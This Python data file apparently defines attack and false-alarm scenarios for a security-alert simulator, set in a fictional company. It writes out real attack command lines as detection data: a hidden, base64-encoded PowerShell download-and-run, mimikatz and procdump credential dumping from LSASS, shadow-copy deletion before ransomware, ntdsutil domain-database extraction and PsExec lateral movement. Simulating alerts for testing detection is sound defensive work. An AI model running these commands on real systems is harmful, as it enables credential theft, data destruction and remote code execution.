"""The attacks, and the false alarms, that the simulator can play.

All of them happen in one made-up company: CORP is the Windows domain of acme.com, jsmith works at
workstation-01, adm-mgarcia administers. The one address is from RFC 5737 (documentation), so
nothing that a command line names can be reached. `simulate.sh` carries the CrowdStrike scenarios a
second time, because it has to work alone; a test holds the two equal.
"""

import base64
import hashlib
from typing import Final

import msgspec

from vyrox.models import Vendor


class Host(msgspec.Struct, frozen=True):
    """A computer, by its name and by the vendor's own identifier of it."""

    name: str
    device_id: str


class Stage(msgspec.Struct, frozen=True):
    """One detection, before its vendor's shape is put on it.

    Attributes:
        tactic: As the vendor writes it: a MITRE identifier, or Defender's category.
        username: As the vendor writes it; SentinelOne's shape has no place for it.
        command_line: Begins with the program, whose path has no spaces.
    """

    severity: str
    tactic: str
    technique: str
    host: Host
    username: str
    command_line: str

    @property
    def process_name(self) -> str:
        """The program's file name."""
        return self.command_line.split(" ")[0].split("\\")[-1]

    @property
    def sha256(self) -> str:
        """The program's made-up hash: always the same for one name, and no real file has it."""
        return hashlib.sha256(f"vyrox-simulator:{self.process_name}".encode()).hexdigest()


class Scenario(msgspec.Struct, frozen=True):
    """A named run of one or more detections from one vendor, in the order they happen."""

    name: str
    vendor: Vendor
    description: str
    stages: tuple[Stage, ...]


_WORKSTATION_01 = Host("workstation-01", "12345678-1234-1234-1234-123456789abc")
_WORKSTATION_07 = Host("workstation-07", "5f0c7a1e-93b2-4d6a-8e21-0b7d4c9f6a35")
_FILE_SRV_02 = Host("file-srv-02", "a3d918c4-6e70-4b5f-9c12-d84e2f7b1069")
_DC_01 = Host("dc-01", "c71b5e20-4a8d-4f39-b6e7-92d0a5c3f814")
_S1_WORKSTATION_07 = Host("workstation-07", "1742960385517204813")
_S1_FILE_SRV_02 = Host("file-srv-02", "1742961120948337562")
_MDE_WORKSTATION_01 = Host("workstation-01.acme.local", "8d2f61c0b7e94a35d1f08c6b52e7a9403fd6b18e")
_ASSET_FILE_SRV_02 = Host("file-srv-02", "asset-00417")

_JSMITH = r"CORP\jsmith"
_ADMIN = r"CORP\adm-mgarcia"
_SYSTEM = r"NT AUTHORITY\SYSTEM"

_DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
_ENCODED_DOWNLOAD = (
    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand "
    + base64.b64encode(_DOWNLOAD.encode("utf-16-le")).decode()
)

# One table, two lines a detection.
# fmt: off
_ALL = (
    Scenario("mimikatz", "crowdstrike", "Mimikatz reads passwords out of LSASS memory", (
        Stage("critical", "TA0006", "T1003.001", _WORKSTATION_01, _JSMITH,
              'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"'),
    )),
    Scenario("ransomware", "crowdstrike", "Shadow copies deleted, recovery off, files encrypted", (
        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
              "vssadmin.exe delete shadows /all /quiet"),
        Stage("high", "TA0040", "T1490", _FILE_SRV_02, _SYSTEM,
              "bcdedit.exe /set {default} recoveryenabled no"),
        Stage("critical", "TA0040", "T1486", _FILE_SRV_02, _SYSTEM,
              r"C:\ProgramData\winupd64.exe --path D:\Shares --threads 16 --ext .locked"),
    )),
    Scenario("encoded-powershell", "crowdstrike", "Hidden PowerShell runs a Base64 command", (
        Stage("high", "TA0002", "T1059.001", _WORKSTATION_01, _JSMITH,
              _ENCODED_DOWNLOAD),
    )),
    Scenario("lateral-movement", "crowdstrike", "From a mailed document to the domain controller", (
        Stage("medium", "TA0001", "T1566.001", _WORKSTATION_01, _JSMITH,
              r'WINWORD.EXE /n "C:\Users\jsmith\Downloads\Invoice 2291.docm"'),
        Stage("high", "TA0002", "T1059.001", _WORKSTATION_01, _JSMITH,
              _ENCODED_DOWNLOAD),
        Stage("medium", "TA0003", "T1053.005", _WORKSTATION_01, _JSMITH,
              r'schtasks.exe /create /tn UpdateCheck /tr C:\Temp\upd.exe /sc onlogon /ru SYSTEM'),
        Stage("medium", "TA0007", "T1069.002", _WORKSTATION_01, _SYSTEM,
              'net.exe group "Domain Admins" /domain'),
        Stage("critical", "TA0006", "T1003.001", _WORKSTATION_01, _SYSTEM,
              r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Temp\upd.dmp full"),
        Stage("high", "TA0008", "T1021.002", _WORKSTATION_01, _ADMIN,
              r"net.exe use \\file-srv-02\ADMIN$ /user:CORP\adm-mgarcia"),
        Stage("high", "TA0008", "T1021.006", _FILE_SRV_02, _ADMIN,
              r"powershell.exe -NoProfile Invoke-Command dc-01 -FilePath C:\Windows\Temp\ifm.ps1"),
        Stage("critical", "TA0006", "T1003.003", _DC_01, _ADMIN,
              r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q'),
    )),
    Scenario("software-deployment", "crowdstrike", "Benign: a managed install runs a script", (
        Stage("low", "TA0002", "T1059.001", _WORKSTATION_07, _SYSTEM,
              r"powershell.exe -ExecutionPolicy Bypass -File C:\Windows\ccmcache\1a\Install.ps1"),
    )),
    Scenario("psexec", "sentinelone", "PsExec runs a program on a server, seen from both ends", (
        Stage("high", "TA0008", "T1021.002", _S1_WORKSTATION_07, _ADMIN,
              r"PsExec64.exe \\file-srv-02 -accepteula -s -d cmd.exe /c C:\Windows\Temp\upd.exe"),
        Stage("high", "TA0002", "T1569.002", _S1_FILE_SRV_02, _SYSTEM,
              r"C:\Windows\PSEXESVC.exe"),
    )),
    Scenario("lsass-dump", "defender", "ProcDump writes the memory of LSASS to a file", (
        Stage("high", "CredentialAccess", "T1003.001", _MDE_WORKSTATION_01, "jsmith@acme.com",
              r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp"),
    )),
    Scenario("backup", "generic", "Benign: the nightly backup reads a whole server", (
        Stage("low", "TA0009", "T1119", _ASSET_FILE_SRV_02, "svc-backup@acme.com",
              r"wbadmin.exe start backup -backupTarget:\\backup-01\nightly -include:D: -quiet"),
    )),
)
# fmt: on

SCENARIOS: Final = {scenario.name: scenario for scenario in _ALL}
"""Every scenario under its name, in the order `--list` shows them."""
